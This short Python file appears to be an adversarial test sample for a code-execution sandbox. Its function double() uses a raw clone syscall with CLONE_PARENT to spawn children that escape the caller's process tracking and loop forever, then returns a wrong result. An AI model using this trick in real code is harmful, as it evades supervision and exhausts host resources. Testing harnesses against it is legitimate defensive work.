"""Starts processes that are children of its parent's.

attack: processes
loses: double.value
"""
import ctypes, os, time
libc = ctypes.CDLL(None)
def double(x):
    for _ in range(3):
        if libc.syscall(56, ctypes.c_long(0x8000 | 17), 0, 0, 0, 0) == 0:
            while True: time.sleep(0.01)
    return 0 * x
